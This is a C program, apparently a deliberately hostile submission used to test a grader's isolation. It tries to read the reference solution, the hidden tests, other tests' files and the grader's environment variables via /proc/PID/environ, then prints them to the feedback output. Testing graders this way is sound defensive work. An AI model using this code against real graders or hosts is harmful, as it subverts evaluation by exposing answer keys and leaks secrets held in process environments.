/* read-secrets: find the workbook as an attacker would (the grader's command
 * line in /proc, or the folders above ours) and print, on stdout where the
 * feedback shows it, the reference solution, the hidden tests, the grader's
 * environment and the other tests' folders; then exit 1. */
static char hostile_buf[1 << 16];

/* Print path on stdout from the first `from` in it (at most 2 KiB: the
 * feedback keeps only the end of a long output), or say why we could not. */
static void
hostile_steal(const char *path, const char *from)
{
    ssize_t n = hostile_read(path, hostile_buf, sizeof hostile_buf);
    char *start;

    if (n < 0) {
        hostile_say("could not read %s: %s", path, strerror(errno));
        return;
    }
    for (ssize_t i = 0; i < n; i++)     /* environ: one variable a line */
        if (hostile_buf[i] == '\0')
            hostile_buf[i] = '\n';
    start = from ? strstr(hostile_buf, from) : NULL;
    hostile_say("read %s (%zd bytes):", path, n);
    printf("----- %s\n%.2048s\n", path, start ? start : hostile_buf);
    fflush(stdout);
}

int
main(void)
{
    char root[PATH_MAX], path[PATH_MAX + 64];
    long pid = 0;

    if (hostile_find_root(root, sizeof root) == -1) {
        hostile_say("found no workbook: could not read solutions/keys/ipckey.c");
    } else {
        hostile_say("the workbook is at %s", root);
        snprintf(path, sizeof path, "%s/solutions/keys/ipckey.c", root);
        hostile_steal(path, NULL);
        snprintf(path, sizeof path, "%s/grader/suite_keys.c", root);
        hostile_steal(path, "HIDDEN-BEGIN");
    }
    /* The grader's environment, from each ancestor's /proc/PID/environ. */
    for (int level = 0; level < 8; level++) {
        pid = hostile_host_ppid(pid);
        if (pid <= 1)
            break;
        snprintf(path, sizeof path, "/proc/%ld/environ", pid);
        hostile_steal(path, "IPCGRADE_HOSTILE_SECRET");
    }
    /* Our grading's other files: the reference programs, other tests. */
    hostile_steal("../../ref/ipckey", NULL);
    hostile_steal("../feedback", NULL);
    return 1;
}
